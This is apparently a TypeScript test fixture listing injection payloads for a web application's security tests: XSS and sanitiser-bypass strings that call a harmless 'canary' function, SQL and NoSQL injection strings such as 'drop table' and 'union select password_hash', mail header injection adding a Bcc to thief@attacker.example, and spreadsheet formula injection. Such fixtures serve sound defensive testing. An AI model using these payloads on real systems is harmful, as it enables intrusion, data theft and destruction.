/**
 * Every payload calls `canary`, which a page must never do, and fits into the 100 characters of a holiday's name. The first
 * runs as an address, at the end of an attribute and as an element, put there by a script or not.
 */
export const scripts = [
  'javascript:canary(1)//"><img src=x onerror=canary(1)>',
  '"><svg onload=canary(1)>',
  '</script><script>canary(1)</script>',
  "javascript:canary(1)//'-canary(1)-'",
  '<iframe srcdoc="<script>parent.canary(1)</script>">',
  '{{constructor.constructor("canary(1)")()}}',
  '<a href="&#106;avascript:canary(1)" autofocus onfocus=canary(1) tabindex=1>x</a>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=canary(1)&gt;">',
];

/** For what takes HTML: the ways past a sanitiser. */
export const documents = [
  '<p onclick=canary(1)>a</p><img src=x onerror=canary(1)><svg><script>canary(1)</script></svg>',
  '<a href="java\tscript:canary(1)">a</a><a href=" javascript:canary(1)">b</a><a href="data:text/html,<script>canary(1)</script>">c</a>',
  '<style>@import "javascript:canary(1)"</style><base href="javascript:canary(1)//"><meta http-equiv=refresh content="0;url=javascript:canary(1)">',
  '<noscript><p title="</noscript><img src=x onerror=canary(1)>"></noscript><template><img src=x onerror=canary(1)></template>',
  '<form action="javascript:canary(1)"><button formaction="javascript:canary(1)">x</button></form><details open ontoggle=canary(1)>x</details>',
  '<math><mtext></p><style><img src=x onerror=canary(1)></style></mtext></math><img src="x` `<script>canary(1)</script>"` `>',
  '<object data="javascript:canary(1)"></object><embed src="javascript:canary(1)"><video><source onerror=canary(1)></video>',
];

/** What would change a statement, or break it, were it put into one. */
export const statements = [
  "' or '1'='1' --",
  "'; drop table people; --",
  '%_\\',
  "') union select password_hash from people --",
  '1; select pg_sleep(9)',
  '$1 :a ?',
  '"; delete from requests; --',
  "{'$ne':null}",
  '\\u0000',
];

/** What a mail program would take for a header, were it not folded into one line. */
export const headers = [
  'Eve\r\nBcc: thief@attacker.example\r\nX-Injected: yes',
  'Eve\nTo: thief@attacker.example',
];

/** What a sheet program would run. */
export const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  "'=1+1",
  '=HYPERLINK("http://attacker.example","x")',
  '"=1+1',
  ';=1+1',
  ',=1+1',
];
